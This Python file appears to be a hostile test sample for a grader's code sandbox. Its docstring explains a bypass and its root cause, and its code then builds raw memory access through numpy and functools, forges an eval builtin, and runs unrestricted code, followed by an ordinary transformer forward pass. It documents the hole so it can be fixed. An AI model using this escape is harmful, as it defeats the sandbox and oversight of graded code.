"""Hostile (verdict today: accepted, with every wall on and with --no-static-check; deserved:
forbidden_api). Raw memory without any class that defines a raw-memory special name: a class whose
namespace defines `__dict__` as a plain dict {"__array_interface__": iface} (the namespace check
refuses only DANGEROUS_CLASS_NAMES, and `type` is reached through functools.partial, which the
static check does not follow); functools.update_wrapper(window, Holder()) copies that "instance
dict" into the function window's real __dict__ without looking at the keys; numpy looks
__array_interface__ up on the instance, so numpy.asarray(window) reads and writes any address.
From there: a copy of the real isinstance object with eval's PyMethodDef (a new identity, which the
substitution of the real built-ins by identity does not know) is put into a list and read back;
it runs unrewritten code: sys, os.getpid() and a frame are printed. The forward itself is honest.
Root cause: grader/child/restricted.py:195 (update_wrapper copies wrapped.__dict__ keys unchecked,
and wrapped.__dict__ is whatever the class says), :296-299 (a class may define __dict__), and
:426-432 (raw-memory names are looked for in class dictionaries only, never in an instance's).
"""

import functools
import math

import numpy
import torch

iface = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}
Holder = functools.partial(type, "Holder", ())({"__dict__": {"__array_interface__": iface}})


def window():
    pass


functools.update_wrapper(window, Holder())  # window.__dict__ now holds __array_interface__


def at(address):
    iface["data"] = (address, False)
    return numpy.asarray(window)


def peek(address):
    return int(at(address)[0])


def poke(address, value):
    at(address)[0] = value


def c_string(address):
    text = ""
    while True:
        for byte in peek(address).to_bytes(8, "little"):
            if not byte:
                return text
            text += chr(byte)
        address += 8


print("refcount of torch, read at id(torch):", peek(id(torch)))
# builtins' table of PyMethodDef (32 bytes each), walked back from isinstance's to eval's
table = peek(id(isinstance) + 16)
entries = {}
for i in range(30):
    entries[c_string(peek(table - 32 * i))] = table - 32 * i
    if "eval" in entries:
        break
# a copy of the real isinstance (56 bytes, after a zeroed GC head of 16) whose method is eval's
memory = numpy.zeros(16, dtype=numpy.uint64)
clone = peek(id(memory) + 16) + 16
for word in range(7):
    poke(clone + 8 * word, peek(id(isinstance) + 8 * word))
poke(clone, 1 << 40)  # never freed
poke(clone + 16, entries["eval"])
box = [None]
poke(peek(id(box) + 24), clone)  # box's first item is now the clone
real_eval = box[0]
print("real eval:", real_eval)
print(real_eval("(print.__self__.__import__('sys'), print.__self__.__import__('os').getpid(), print.__self__.__import__('sys')._getframe(0))"))


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
